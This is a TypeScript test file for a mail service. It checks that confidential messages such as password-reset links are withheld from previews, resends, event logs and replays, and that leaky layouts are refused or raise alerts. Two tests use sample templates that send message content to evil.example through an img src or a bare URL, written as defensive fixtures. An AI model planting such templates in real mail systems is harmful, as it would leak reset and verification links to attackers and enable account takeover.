import { expect } from 'chai';
import type { MailError, SendInput } from '../../server/mail/index.ts';
import { useCheckedTemplates } from '../support/checked-templates.ts';
import { testDatabase } from '../support/database.ts';
import { resetInput, upgradeInput } from '../support/inputs.ts';
import { providerSamples } from '../support/provider-samples.ts';
import { refusal } from '../support/refusal.ts';

const link = 'https://shop.example/reset/1';

describe('mail that is for its recipient alone', () => {
  const db = testDatabase();
  const shop = useCheckedTemplates();
  let id: string;
  before(async () => {
    ({ id } = await shop.mail.send(resetInput(), { wait: true }));
  });

  const isConfidential = async (asked: Promise<unknown>): Promise<MailError> => {
    const refused = await refusal(asked);
    expect(refused.code).to.equal('confidential');
    expect(refused.message).not.to.contain(link);
    return refused;
  };

  it('goes out with what it says, and shows it to nobody else', async () => {
    expect(shop.api.given.at(-1)?.html).to.contain(link);
    await isConfidential(shop.mail.messages.preview(id));
    await isConfidential(shop.mail.messages.content(id));
    const other = await shop.mail.send(upgradeInput(), { wait: true });
    expect((await shop.mail.messages.preview(other.id))?.html).to.contain('/tier/1');
  });

  it('is not copied, but tried again', async () => {
    await isConfidential(shop.mail.messages.resend(id, { by: 'ada' }));
    await db('postlane_messages').where({ id }).update({ state: 'failed' });
    await shop.mail.messages.retry(id, { by: 'ada' });
    await shop.mail.work.deliverDue('transactional');
    expect((await shop.mail.messages.get(id))?.state).to.equal('sent');
  });

  it('keeps its links in what is reported about it', async () => {
    const [attempt] = await shop.mail.messages.attempts(id);
    const about = { Recipient: 'ada@mail.example', Metadata: { 'postlane-attempt': attempt?.id } };
    await shop.mail.receive('postmark', { ...providerSamples.Click, ...about, OriginalLink: link });
    const events = await shop.mail.messages.events(id);
    expect(events.map(({ kind, details }) => [kind, details.link])).to.deep.equal([['clicked', null]]);
    expect(JSON.stringify(await shop.mail.messages.timeline(id))).not.to.contain(link);
    await isConfidential(shop.mail.messages.rawEvent(events[0]?.id ?? ''));
  });

  it('gives no data to previews and tests: refused for a recipient, a sample for a message', async () => {
    const content = { ...shop.content('password-reset') };
    delete content.confidential;
    const { preview, sendTest } = shop.mail.templates;
    await isConfidential(preview(content, { recipient: 'ada@mail.example' }));
    await isConfidential(
      sendTest(content, { to: 'me@mail.example', by: 'ada', recipient: 'ada@mail.example' }),
    );
    const shown = await preview(content, { messageId: id, issues: false });
    expect(shown.data).to.deep.equal(content.sample);
  });

  it('is replayed with the sample, once for all that are alike', async () => {
    await shop.mail.send(resetInput(), { wait: true });
    const candidate = shop.changed('password-reset', { html: '<p>{{resetUrl}}</p>' });
    delete candidate.confidential;
    const { results, sampled } = await shop.mail.templates.replay(candidate);
    expect(results.map(({ kind }) => kind)).to.deep.equal(['different']);
    expect(sampled).to.equal(true);
    expect(JSON.stringify(results)).not.to.contain(link);
    const asSent = await shop.mail.templates.replayed(id);
    expect(asSent?.html).to.contain('https://www.example.com/password/reset').and.not.contain(link);
  });

  it('stays so when its template is edited or restored, and is so from before it was marked', async () => {
    const ref = { kind: 'template', key: 'password-reset' } as const;
    const view = await shop.mail.templates.get(ref);
    if (!view?.published) throw new Error('It is not published.');
    const { confidential, ...content } = view.published.source.content;
    expect(confidential).to.equal(true);
    const edited = { ...ref, content: { ...content, description: 'Other.' } };
    const options = { by: 'ada', message: 'Other words.', acceptWarnings: true };
    const saved = await shop.mail.templates.saveDraft(edited, { revision: view.revision, by: 'ada' });
    if (saved.state !== 'saved') throw new Error('It was not saved.');
    await shop.mail.templates.publish(ref, { ...options, revision: saved.revision });
    expect((await shop.mail.templates.get(ref))?.published?.source.content).to.deep.include({
      description: 'Other.',
      confidential: true,
    });

    // As if version 1 had come before the mark.
    const unmarked = JSON.stringify(content);
    await db('postlane_template_source_versions')
      .where({ source_key: ref.key, version: 1 })
      .update({ content: unmarked });
    const [old] = await db('postlane_template_versions').where({ template: ref.key, version: 1 });
    const { confidential: _, ...before } = JSON.parse(old.content);
    await db('postlane_template_versions')
      .where({ id: old.id })
      .update({ content: JSON.stringify(before) });
    await isConfidential(shop.mail.messages.preview(id));
    const now = await shop.mail.templates.get(ref);
    await shop.mail.templates.restore(ref, 1, { ...options, revision: now?.revision ?? 0 });
    expect((await shop.mail.templates.get(ref))?.published).to.deep.include({ version: 3 });
    expect((await shop.mail.templates.get(ref))?.published?.source.content.confidential).to.equal(true);
  });

  it('is told to the transport as such, with a template or composed; other mail is not', async () => {
    const flagged = async (input: SendInput) => {
      await shop.mail.send(input, { wait: true });
      return shop.api.given.at(-1)?.isConfidential;
    };
    const composed = { category: 'order', to: 'ada@mail.example', subject: 'Hello', text: 'Hello' };
    expect(await flagged(resetInput())).to.equal(true);
    expect(await flagged({ ...composed, confidential: true })).to.equal(true);
    expect(await flagged(composed)).to.equal(undefined);
    expect(await flagged(upgradeInput())).to.equal(undefined);
  });

  it('is not put into a layout that would give it away', async () => {
    const composed = { category: 'order', to: 'ada@mail.example', subject: 'Hello', html: `<p>${link}</p>` };
    const layouts = {
      image: '<html><body><img alt="" src="https://evil.example/?{{> content}}"></body></html>',
      words: '<html><body>https://evil.example/?{{> content}}</body></html>',
      fine: '<html><body>{{> content}}</body></html>',
    };
    for (const [key, html] of Object.entries(layouts)) {
      const ref = { kind: 'layout', key } as const;
      const draft = { ...ref, content: { html, text: '{{> content}}' } };
      const saved = await shop.mail.templates.create(draft, { by: 'ada' });
      if (saved.state !== 'saved') throw new Error('It was not saved.');
      const options = { by: 'ada', message: 'New.', revision: saved.revision, acceptWarnings: true };
      expect((await shop.mail.templates.publish(ref, options)).state).to.equal('published');
      await shop.mail.send({ ...composed, layout: key });
      const sending = shop.mail.send({ ...composed, layout: key, confidential: true }, { wait: true });
      if (key === 'fine') expect((await sending).state).to.equal('sent');
      else
        expect((await refusal(sending)).message).to.match(/cannot be used for confidential mail: .*line 1/);
    }
  });

  it('of before this was refused raises an alert until it is mended', async () => {
    const ids = { template: 'email-verification', published: 1 };
    const [stored] = await db('postlane_template_versions').where(ids);
    const content = JSON.parse(stored.content);
    content.layout.html = content.layout.html.replace(
      '<body>',
      '<body><img src="https://evil.example/{{verifyUrl}}">',
    );
    await db('postlane_template_versions').where(ids).update({ published: null });
    await db('postlane_template_versions').insert({
      ...{
        ...stored,
        id: undefined,
        version: 99,
        content: JSON.stringify(content),
        content_hash: Buffer.alloc(32),
      },
    });
    const alerts = await shop.mail.monitoring.alerts();
    const leaking = alerts.filter(({ kind }) => kind === 'leaking-template');
    expect(leaking).to.have.length(1);
    expect(leaking[0]).to.include({ template: 'email-verification' });
    expect(JSON.stringify(leaking)).to.match(
      /layout, html, line \d+: verifyUrl stands in the attribute src of <img>/,
    );
    await db('postlane_template_versions').where({ version: 99 }).delete();
    await db('postlane_template_versions').where({ id: stored.id }).update({ published: 1 });
    const after = await shop.mail.monitoring.alerts();
    expect(after.filter(({ kind }) => kind === 'leaking-template')).to.deep.equal([]);
  });

  it('is every shipped template that brings a link or a code that only its recipient may use', async () => {
    const keys = await shop.mail.templates.keys();
    const marked = keys.filter(key => shop.content(key).confidential);
    expect(marked).to.deep.equal(['confirm-subscription', 'email-verification', 'password-reset']);
  });
});
